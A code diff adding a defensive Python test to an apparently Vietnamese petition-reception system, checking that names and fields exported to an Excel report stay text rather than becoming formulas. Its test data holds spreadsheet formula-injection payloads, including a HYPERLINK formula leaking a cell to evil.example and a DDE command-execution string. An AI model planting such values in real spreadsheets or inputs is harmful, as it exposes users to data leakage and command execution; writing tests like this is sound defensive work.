@@ -212,3 +212,23 @@ def test_a_daily_entry_whose_complaint_the_petition_form_refuses_is_refused_on_t
                             {"reception_day": {"officers_on_duty": ["Trần Văn T"], "records": [record(), wrong]}})
     assert list(refused.value.fields) == ["reception_day.records.1.representatives.0.id_number"]
     assert register.list_records(rt, plan.user("auditor"), plan.id) == [] and plan.ready("record_reception_day")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)"]
+
+
+def test_text_people_typed_reaches_the_spreadsheet_as_text_never_as_a_formula(rt: Runtime, clock: FrozenClock) -> None:
+    clock.set(vn(2021, 3, 22, 9))
+    inspectorate = authenticate_password(rt, "inspectorate", "demo")
+    start = {"session_name": FORMULAS[0], "window_start": "2021-03-24", "window_end": "2021-03-25",
+             "receive_on_weekends": False, "reception_office": FORMULAS[1], "units": UNITS[:1],
+             "documents": [{"number": "930/UBND-TD", "issued_on": "2021-03-22", "title": FORMULAS[2]}]}
+    plan = cases.start_case(rt, inspectorate, "na_session_reception", start).instance.id
+    clock.set(vn(2021, 3, 24, 9))
+    for name in FORMULAS:
+        register.add_record(rt, inspectorate, plan, "2021-03-24", record(persons=[person(name)]))
+    book = load_workbook(io.BytesIO(reports.report_xlsx(reports.session_report(rt, inspectorate, plan))))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
+    assert {c.value for c in cells} >= {FORMULAS[0], *FORMULAS[:1]}
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells), [(c.value, c.data_type) for c in cells]
